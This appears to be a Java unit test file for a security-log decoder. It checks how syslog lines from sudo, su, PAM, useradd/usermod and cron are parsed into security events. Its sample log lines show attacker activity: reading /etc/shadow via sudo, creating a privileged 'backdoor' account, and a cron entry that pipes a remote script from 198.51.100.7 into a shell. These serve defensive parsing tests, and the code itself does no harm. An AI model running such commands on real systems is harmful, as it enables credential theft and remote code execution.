package org.socengine.connectors.decode;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.socengine.connectors.decode.core.DecoderOptions;
import org.socengine.connectors.decode.core.RawRecord;
import org.socengine.model.SecurityEvent;

/** Program parsers behind the syslog header: sudo, su and PAM, account management, cron. */
class SyslogMessagesTest {

    private static SecurityEvent syslog(String line) {
        return Samples.decode("syslog", line);
    }

    @Test
    void sudoCommandsAndFailures() {
        SecurityEvent ok =
                syslog(
                        "Nov 25 12:00:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow");
        assertThat(ok.event.action).isEqualTo("sudo_command");
        assertThat(ok.event.category).isEqualTo("process");
        assertThat(ok.user.name).isEqualTo("alice");
        assertThat(ok.user.target.name).isEqualTo("root");
        assertThat(ok.process.command_line).isEqualTo("/usr/bin/cat /etc/shadow");
        assertThat(ok.process.name).isEqualTo("cat");

        SecurityEvent badPw =
                syslog(
                        "Nov 25 12:00:01 web01 sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash");
        assertThat(badPw.event.action).isEqualTo("sudo_auth_failed");
        assertThat(badPw.event.outcome).isEqualTo("failure");
        assertThat(badPw.event.category).isEqualTo("authentication");

        SecurityEvent notSudoer =
                syslog(
                        "Nov 25 12:00:02 web01 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh");
        assertThat(notSudoer.event.action).isEqualTo("sudo_denied");
        assertThat(notSudoer.fields("sudo.reason")).isEqualTo("user NOT in sudoers");

        SecurityEvent pam =
                syslog(
                        "Nov 25 12:00:03 web01 sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice");
        assertThat(pam.event.action).isEqualTo("pam_auth_failure");
        assertThat(pam.user.name).isEqualTo("alice");
        assertThat(pam.fields("pam.service")).isEqualTo("sudo");
    }

    @Test
    void suDialectsAndPamSessions() {
        SecurityEvent ok = syslog("Nov 25 12:00:00 web01 su[1234]: (to root) alice on pts/0");
        assertThat(ok.event.action).isEqualTo("su");
        assertThat(ok.event.outcome).isEqualTo("success");
        assertThat(ok.user.name).isEqualTo("alice");
        assertThat(ok.user.target.name).isEqualTo("root");

        SecurityEvent failed =
                syslog("Nov 25 12:00:00 web01 su[1235]: FAILED SU (to root) alice on pts/0");
        assertThat(failed.event.outcome).isEqualTo("failure");

        SecurityEvent shadow = syslog("Nov 25 12:00:00 web01 su: - pts/0 bob:root");
        assertThat(shadow.event.outcome).isEqualTo("failure");
        assertThat(shadow.user.name).isEqualTo("bob");

        SecurityEvent pamFail =
                syslog(
                        "Nov 25 12:00:00 web01 su: pam_unix(su:auth): authentication failure; logname=bob uid=1001 euid=0 tty=pts/0 ruser=bob rhost=  user=root");
        assertThat(pamFail.event.action).isEqualTo("pam_auth_failure");
        assertThat(pamFail.user.name).isEqualTo("bob");
        assertThat(pamFail.user.target.name).isEqualTo("root");

        SecurityEvent session =
                syslog(
                        "Nov 25 12:00:00 web01 su: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)");
        assertThat(session.event.action).isEqualTo("session_opened");
        assertThat(session.event.category).isEqualTo("session");
        assertThat(session.user.name).isEqualTo("alice");
        assertThat(session.user.target.name).isEqualTo("root");

        SecurityEvent sshdSession =
                syslog(
                        "Nov 25 12:00:00 web01 sshd[99]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)");
        assertThat(sshdSession.event.action).isEqualTo("session_opened");
        assertThat(sshdSession.user.name).isEqualTo("alice");
    }

    @Test
    void accountManagement() {
        SecurityEvent user =
                syslog(
                        "Nov 25 12:00:00 web01 useradd[2001]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0");
        assertThat(user.event.action).isEqualTo("user_created");
        assertThat(user.event.category).isEqualTo("iam");
        assertThat(user.user.target.name).isEqualTo("backdoor");
        assertThat(user.user.target.id).isEqualTo("1002");
        assertThat(user.fields("account.shell")).isEqualTo("/bin/bash");

        SecurityEvent group =
                syslog(
                        "Nov 25 12:00:00 web01 groupadd[2002]: group added to /etc/group: name=devs, GID=1003");
        assertThat(group.event.action).isEqualTo("group_created");
        assertThat(group.group.name).isEqualTo("devs");

        SecurityEvent added =
                syslog("Nov 25 12:00:00 web01 usermod[2003]: add 'backdoor' to group 'sudo'");
        assertThat(added.event.action).isEqualTo("member_added_to_group");
        assertThat(added.user.target.name).isEqualTo("backdoor");
        assertThat(added.group.name).isEqualTo("sudo");

        SecurityEvent gpasswd =
                syslog(
                        "Nov 25 12:00:00 web01 gpasswd[2004]: user backdoor added by root to group wheel");
        assertThat(gpasswd.event.action).isEqualTo("member_added_to_group");
        assertThat(gpasswd.user.name).isEqualTo("root");
        assertThat(gpasswd.group.name).isEqualTo("wheel");

        SecurityEvent deleted =
                syslog("Nov 25 12:00:00 web01 userdel[2005]: delete user 'backdoor'");
        assertThat(deleted.event.action).isEqualTo("user_deleted");

        SecurityEvent passwd =
                syslog(
                        "Nov 25 12:00:00 web01 passwd[2006]: pam_unix(passwd:chauthtok): password changed for alice");
        assertThat(passwd.event.action).isEqualTo("password_changed");
        assertThat(passwd.user.target.name).isEqualTo("alice");
    }

    @Test
    void cronJobs() {
        SecurityEvent cmd =
                syslog(
                        "Nov 25 12:00:01 web01 CRON[3001]: (root) CMD (curl -s http://198.51.100.7/x.sh | sh)");
        assertThat(cmd.event.action).isEqualTo("cron_command");
        assertThat(cmd.user.name).isEqualTo("root");
        assertThat(cmd.process.command_line).isEqualTo("curl -s http://198.51.100.7/x.sh | sh");

        SecurityEvent edit = syslog("Nov 25 12:00:02 web01 crontab[3002]: (alice) REPLACE (alice)");
        assertThat(edit.event.action).isEqualTo("syslog_message");

        SecurityEvent replace =
                syslog("Nov 25 12:00:02 web01 crond[3003]: (alice) REPLACE (alice)");
        assertThat(replace.event.action).isEqualTo("crontab_replace");
    }

    @Test
    void headersOfEveryShape() {
        SecurityEvent rfc5424 =
                syslog(
                        "<38>1 2026-11-25T12:00:00.123+07:00 web01 sshd 4242 - [meta sequenceId=\"1\"] Accepted publickey for alice from 10.12.4.5 port 50000 ssh2");
        assertThat(rfc5424.getTimestampIso()).isEqualTo("2026-11-25T05:00:00.123Z");
        assertThat(rfc5424.event.action).isEqualTo("ssh_login");
        assertThat(rfc5424.event.outcome).isEqualTo("success");
        assertThat(rfc5424.fields("meta.sequenceId")).isEqualTo("1");
        assertThat(rfc5424.organization.id).isEqualTo("so-yt");

        SecurityEvent octets =
                syslog(
                        "93 <38>1 2026-11-25T12:00:00Z web01 sshd 4242 - - Failed password for root from 10.0.0.9 port 1 ssh2");
        assertThat(octets.event.outcome).isEqualTo("failure");

        SecurityEvent noHost =
                syslog(
                        "Nov 25 12:00:00 sshd[1]: Failed password for root from 10.0.0.9 port 1 ssh2");
        assertThat(noHost.host).isNull();
        assertThat(noHost.source.ip).isEqualTo("10.0.0.9");

        assertThat(
                        Samples.deadLetter(
                                "syslog",
                                "90 <38>1 2026-11-25T12:00:00Z web01 sshd 4242 - - Failed"))
                .isEqualTo("truncated");
        assertThat(Samples.deadLetter("syslog", "<999>Nov 25 12:00:00 a b: c"))
                .isEqualTo("malformed");
        assertThat(Samples.deadLetter("syslog", "Foo 25 12:00:00 a b: c"))
                .isEqualTo("bad_timestamp");
        assertThat(Samples.deadLetter("syslog", "hello world")).isEqualTo("wrong_format");
        assertThat(Samples.deadLetter("syslog", "Feb 30 12:00:00 a b: c"))
                .isEqualTo("bad_timestamp");
    }

    @Test
    void yearlessTimestampsNeverLandInTheFuture() {
        RawRecord r =
                Samples.record(
                        "syslog",
                        "Dec 31 23:59:59 web01 sshd[1]: Connection closed by 10.0.0.1 port 1");
        // Read on 2026-01-01: a December record is from the year before.
        r.kafkaTimestamp = 1_767_225_700_000L;
        RecordDecoder.Outcome o = Samples.recordDecoder().decode(r, r.kafkaTimestamp);
        assertThat(o.event().getTimestampIso()).isEqualTo("2025-12-31T23:59:59Z");
        RecordDecoder fixed =
                new RecordDecoder(
                        DecoderOptions.defaults().withYear(2024).withTimeZone("Asia/Ho_Chi_Minh"),
                        org.socengine.connectors.enrich.DepartmentDirectory.defaults());
        assertThat(fixed.decode(r, r.kafkaTimestamp).event().getTimestampIso())
                .isEqualTo("2024-12-31T16:59:59Z");
    }
}
